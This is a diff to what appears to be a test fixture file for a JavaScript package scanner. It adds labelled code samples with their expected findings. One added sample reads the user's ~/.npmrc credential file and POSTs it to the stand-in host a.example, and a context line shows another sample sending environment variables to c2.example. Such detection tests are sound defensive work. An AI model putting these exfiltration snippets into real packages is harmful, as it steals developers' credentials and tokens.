@@ -111,6 +111,14 @@ class Agent {
 }`,
     ['environment process.env by Object.entries 3 → network ws 4 c2.example'],
   ],
+  [
+    'files that are put into a list within an object',
+    `const fs = require('fs'), os = require('os')
+const found = { files: [], env: {} }
+for (const name of ['.npmrc']) found.files.push(fs.readFileSync(os.homedir() + '/' + name, 'utf8'))
+fetch('https://a.example', { method: 'POST', body: JSON.stringify(found) })`,
+    ['credential-file .npmrc 3 → network fetch 4 a.example'],
+  ],
 ]
 
 /** What packages of good repute do with the same things. */
@@ -191,6 +199,17 @@ fetch('https://a.example/ping')`,
     'a timeout and an agent from the environment in options',
     `const options = { env: process.env, timeout: 5 }
 require('https').request('https://a.example', options)`,
+  ],
+  [
+    'the search path of programs, whatever its case',
+    `const { spawn } = require('child_process')
+const isPath = /^path$/i
+function pathOf(env) { for (const name in env) { if (isPath.test(name)) return env[name] } }
+function keyOf(env) { return Object.keys(env).reverse().find((key) => key.toUpperCase() === 'PATH') || 'Path' }
+exports.run = (command, options) => {
+  const env = { ...process.env, ...options.env }
+  return spawn(pathOf(env) + '/' + command, [env[keyOf(env)]], { env })
+}`,
   ],
   [
     'a public key of a secret one',
